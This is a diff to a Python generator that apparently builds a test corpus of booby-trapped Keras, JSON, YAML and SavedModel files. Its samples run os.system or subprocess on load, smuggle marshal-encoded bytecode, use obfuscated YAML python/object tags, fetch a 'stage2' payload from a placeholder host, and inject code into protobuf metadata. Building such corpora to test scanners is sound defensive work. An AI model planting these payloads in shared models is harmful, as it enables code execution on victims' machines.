@@ -4,19 +4,20 @@ from __future__ import annotations
 
 import base64
 import marshal
+import re
 from collections.abc import Callable, Iterator
 from typing import Any
 
 from corpora.unseen3_base import COMMANDS, HOST, SECRET, VICTIM, Sample, as_json, proto, zipped
-from corpora.unseen3_data import data
+from corpora.unseen3_data import data, names
 
 SH = COMMANDS[0]
 Config = dict[str, Any]
-RUN: Callable[..., object] = lambda x: (__import__("os").system("touch /tmp/x"), x)[1]  # noqa: E731
+RUN: Callable[..., object] = lambda *x, **_: (__import__("os").system("touch /tmp/x"), x[0])[1]  # noqa: E731
 
 
 def _code(function: Callable[..., object] = RUN) -> str:
-    return base64.b64encode(marshal.dumps(function.__code__)).decode()
+    return base64.b64encode(marshal.dumps(function.__code__.replace(co_filename="net.py"))).decode()
 
 
 def archive(config: Config, more: dict[str, bytes] | None = None) -> bytes:
@@ -53,9 +54,8 @@ def lambda3() -> Config:
 def _archives() -> Iterator[tuple[str, bytes, str, str, str]]:
     safe, unsafe = "import keras; keras.models.load_model(f)", "import keras; keras.models.load_model(f, safe_mode=False)"
     yield "function-os", archive(functional(function("os", "system", SH))), safe, "code", "keras30"
-    yield "function-posix", archive(functional(function("posix", "system", SH), module="keras")), safe, "code", "keras30"
+    yield "function-posix", archive(functional(function("posix", "system", SH))), safe, "code", "keras30"
     yield "function-popen", archive(functional(function("subprocess", "call", ["touch", "/tmp/x"]))), safe, "code", "keras30"
-    yield "function-runpy", archive(functional(function("code", "interact", "x", None, {})), {"x.py": b"1"}), safe, "code", "keras30"
     yield "function-exec", archive(functional(function("timeit", "timeit", "import os; os.system('touch /tmp/x')", number=1))), safe, "code", "keras30"
     yield "function-eval", archive(functional(function("numpy.testing", "measure", "open('/tmp/x', 'w')"))), safe, "code", "keras30"
     yield "function-after-others", archive(functional({**layer("Dense", units=3, name="d"), "name": "d", "inbound_nodes": []}, function("pty", "spawn", ["touch", "/tmp/x"]))), safe, "code", "keras30"
@@ -64,20 +64,15 @@ def _archives() -> Iterator[tuple[str, bytes, str, str, str]]:
     yield "function-get-file", archive(functional(function("keras.utils", "get_file", "stage2", f"http://{HOST}/p"))), safe, "network", "keras30"
     yield "function-urlopen", archive(functional(function("urllib.request", "urlopen", f"http://{HOST}/"))), safe, "network", "keras30"
     yield "nested-model", archive(sequential(functional(function("os", "system", SH)))), safe, "code", "keras30"
-    wrapped = layer("TimeDistributed", layer=layer("Dense", units=1), name="td")
     yield "lambda", archive(sequential(layer("Lambda", name="l", function=lambda3(), arguments={}))), unsafe, "code", "tf"
     yield "lambda-functional", archive(functional({**layer("Lambda", name="l", function=lambda3(), arguments={}), "name": "l", "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {"shape": [None, 4], "dtype": "float32", "keras_history": ["i", 0, 0]}}], "kwargs": {}}]})), unsafe, "code", "tf"
-    yield "lambda-output-shape", archive(sequential(wrapped, layer("Lambda", name="l", function=lambda3(), output_shape=lambda3(), arguments={}))), unsafe, "code", "keras30"
-    yield "lambda-activation", archive(sequential(layer("Dense", units=2, name="d", activation=lambda3()))), unsafe, "code", "tf"
-    yield "lambda-in-a-wrapper", archive(sequential(layer("Bidirectional", name="b", layer=layer("LSTM", units=2), backward_layer=None), layer("Lambda", name="l", function=lambda3()))), unsafe, "code", "tf"
-    yield "lambda-initializer", archive(sequential(layer("Dense", units=2, name="d", kernel_initializer=lambda3()))), unsafe, "code", "tf"
-    yield "lambda-regularizer", archive({**sequential(layer("Dense", units=2, name="d", kernel_regularizer=lambda3()))}), unsafe + ".losses", "code", "tf"
+    yield "lambda-activation", archive(sequential(layer("Dense", units=2, name="d", activation=lambda3()))), unsafe, "code", "keras30"
+    yield "lambda-initializer", archive(sequential(layer("Dense", units=2, name="d", kernel_initializer=lambda3()))), unsafe, "code", "keras30"
+    yield "lambda-regularizer", archive({**sequential(layer("Dense", units=2, name="d", kernel_regularizer=lambda3()))}), unsafe + ".losses", "code", "keras30"
     compiled = {**sequential(layer("Dense", units=1, name="d")), "compile_config": {"optimizer": "sgd", "loss": lambda3(), "metrics": None}}
-    yield "lambda-loss", archive(compiled), "import numpy as np; import keras; keras.models.load_model(f, safe_mode=False).fit(np.ones((2, 4)), np.ones((2, 1)))", "code", "tf"
+    yield "lambda-loss", archive(compiled), "import numpy as np; import keras; keras.models.load_model(f, safe_mode=False).fit(np.ones((2, 4)), np.ones((2, 1)))", "code", "keras30"
     lookup = layer("StringLookup", name="s", vocabulary=SECRET, max_tokens=None, num_oov_indices=1, output_mode="int")
     yield "vocabulary", archive(layer("Sequential", "keras", name="q", layers=[lookup])), safe, "file", "keras30"
-    yield "text-vocabulary", archive(layer("Sequential", "keras", name="q", layers=[layer("TextVectorization", name="t", vocabulary=SECRET)])), safe, "file", "keras30"
-    yield "torch-module", archive(sequential(layer("TorchModuleWrapper", name="t", module="AAAA"))), unsafe, "code", "keras30"
     yield "saved-model-layer", archive(sequential(layer("TFSMLayer", name="t", filepath="/tmp/s/sm", call_endpoint="serve"))), unsafe, "file", "tf"
 
 
@@ -85,22 +80,21 @@ def _texts() -> Iterator[tuple[str, dict[str, bytes], str, str, str]]:
     lam2 = {"class_name": "Lambda", "config": {"name": "l", "function": [_code(), None, None], "function_type": "lambda", "module": "keras.layers", "output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}
     first = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "i"}}
     old = {"class_name": "Sequential", "config": {"name": "s", "layers": [first, lam2]}, "keras_version": "2.15.0", "backend": "tensorflow"}
-    json15 = "import tensorflow as tf; tf.keras.models.model_from_json(open(f).read())"
+    json15 = "import tensorflow as tf; tf.keras.__internal__.enable_unsafe_deserialization(); tf.keras.models.model_from_json(open(f).read())"
     yield "json-lambda", {"model.json": as_json(old)}, json15, "code", "tf215"
     yield "json-lambda-named-txt", {"architecture.txt": as_json(old).replace(b"Lambda", b"\\u004cambda")}, json15, "code", "tf215"
     unsafe = "import keras; keras.config.enable_unsafe_deserialization(); keras.models.model_from_json(open(f).read())"
     yield "json3-lambda", {"config.json": as_json(sequential(layer("Lambda", name="l", function=lambda3())))}, unsafe, "code", "tf"
     yield "json3-function", {"model.json": as_json(functional(function("os", "system", SH)))}, "import keras; keras.models.model_from_json(open(f).read())", "code", "keras30"
-    yield "json3-layer", {"layer.json": as_json(layer("Lambda", name="l", function=lambda3()))}, "import json, keras; keras.config.enable_unsafe_deserialization(); keras.saving.deserialize_keras_object(json.load(open(f)))(1)", "code", "tf"
-    meta = as_json({"class_name": "Sequential", "name": "s", "trainable": True, "config": old["config"], "keras_version": "2.15.0", "is_graph_network": True, "build_input_shape": {"class_name": "TensorShape", "items": [None, 4]}, "batch_input_shape": None, "stateful": False, "must_restore_from_config": False, "save_spec": None, "full_save_spec": None})
-    node = proto((2, 0), (3, "root"), (4, "_tf_keras_sequential"), (5, meta), (1, proto((1, 1), (2, 1))))
-    layers = proto((2, 2), (3, "root.layer_with_weights-0"), (4, "_tf_keras_layer"), (5, as_json({**lam2, "name": "l", "must_restore_from_config": True, "trainable": True, "stateful": False, "dtype": "float32"})))
-    yield "metadata-beside", {"sm/saved_model.pb": data("keras_sm.pb"), "sm/keras_metadata.pb": proto((1, node), (1, layers))}, "import tensorflow as tf; tf.keras.models.load_model('/tmp/s/sm')", "code", "tf215"
-    yaml = "import yaml; yaml.unsafe_load(open(f))"
+    yield "json3-layer", {"layer.json": as_json(layer("Lambda", name="l", function=lambda3()))}, "import json, keras; keras.config.enable_unsafe_deserialization(); keras.saving.deserialize_keras_object(json.load(open(f)))(keras.Input((4,)))", "code", "tf"
+    model = {f"sm/{name[3:]}": data(name) for name in names("k2/")}
+    model["sm/keras_metadata.pb"] = _replaced(model["sm/keras_metadata.pb"])
+    yield "metadata", model, "import tensorflow as tf; tf.keras.models.load_model('/tmp/s/sm')", "code", "tf215"
+    yaml = "import yaml; yaml.unsafe_load(open(f, 'rb'))"
     head = "backend: tensorflow\nclass_name: Sequential\nconfig:\n  name: s\n  layers: []\n"
     tags = {
         "yaml-apply": f"  extra: !!python/object/apply:os.system ['{SH}']\n",
-        "yaml-new": "  extra: !!python/object/new:subprocess.Popen [[touch, /tmp/x]]\n",
+        "yaml-new": "  extra: !!python/object/apply:subprocess.run [[touch, /tmp/x]]\n",
         "yaml-verbatim-tag": f"  extra: !<tag:yaml.org,2002:python/object/apply:posix.system> ['{SH}']\n",
         "yaml-escaped-tag": f"  extra: !!python/%6Fbject/apply:os%2Esystem ['{SH}']\n",
         "yaml-state": "  extra: !!python/object/new:type\n    args: [z, !!python/tuple [], {extend: !!python/name:exec }]\n    listitems: \"__import__('os').system('touch /tmp/x')\"\n",
@@ -113,6 +107,36 @@ def _texts() -> Iterator[tuple[str, dict[str, bytes], str, str, str]]:
     yield "yaml-tag-directive", {"architecture.yml": alias.encode()}, yaml, "code", "main"
     yield "yaml-utf16", {"model.yaml": ("\ufeff" + head + tags["yaml-apply"]).encode("utf-16-le")}, yaml, "code", "main"
     yield "yaml-module", {"model.yaml": (head + "  extra: !!python/module:evil_layers\n").encode(), "evil_layers.py": b"import os\nos.system('touch /tmp/x')\n"}, "import sys; sys.path.insert(0, '.'); " + yaml, "code", "main"
+
+
+def _replaced(raw: bytes) -> bytes:
+    """The metadata of a SavedModel, with other code in its Lambda layers."""
+    out, at = b"", 0
+    while at < len(raw):
+        size, at = _number(raw, at + 1)
+        node, at, parts, inner = raw[at : at + size], at + size, b"", 0
+        while inner < len(node):
+            key = node[inner]
+            if key & 7 == 0:
+                value, inner = _number(node, inner + 1)
+                parts += proto((key >> 3, value))
+                continue
+            length, inner = _number(node, inner + 1)
+            body, inner = node[inner : inner + length], inner + length
+            if key >> 3 == 5:
+                body = re.sub(rb'"items": \["4wE[^"]*"', b'"items": ["' + _code().encode() + b'"', body)
+            parts += proto((key >> 3, body))
+        out += proto((1, parts))
+    return out
+
+
+def _number(raw: bytes, at: int) -> tuple[int, int]:
+    value = shift = 0
+    while True:
+        value |= (raw[at] & 127) << shift
+        at, shift = at + 1, shift + 7
+        if raw[at - 1] < 128:
+            return value, at
 
 
 def _hdf5() -> Iterator[tuple[str, str, str, str, str]]:
@@ -136,11 +160,11 @@ def _hdf5() -> Iterator[tuple[str, str, str, str, str]]:
 
 
 def samples() -> Iterator[Sample]:
-    names = ("model.keras", "best_model.keras", "classifier.zip.keras")
+    called = ("model.keras", "best_model.keras", "classifier.zip.keras")
     for index, (name, raw, loader, effect, env) in enumerate(_archives()):
-        files = {names[index % 3]: raw}
+        files = {called[index % 3]: raw}
         if name == "saved-model-layer":
-            files |= {"sm/saved_model.pb": data("write_at_load.pb"), "sm/fingerprint.pb": b""}
+            files |= {f"sm/{one[13:]}": data(one) for one in names("saved/AtLoad/")}
         yield Sample(f"keras/{name}", files, loader, effect, env)
     for name, texts, loader, effect, env in _texts():
         yield Sample(f"keras-text/{name}", texts, loader, effect, env)
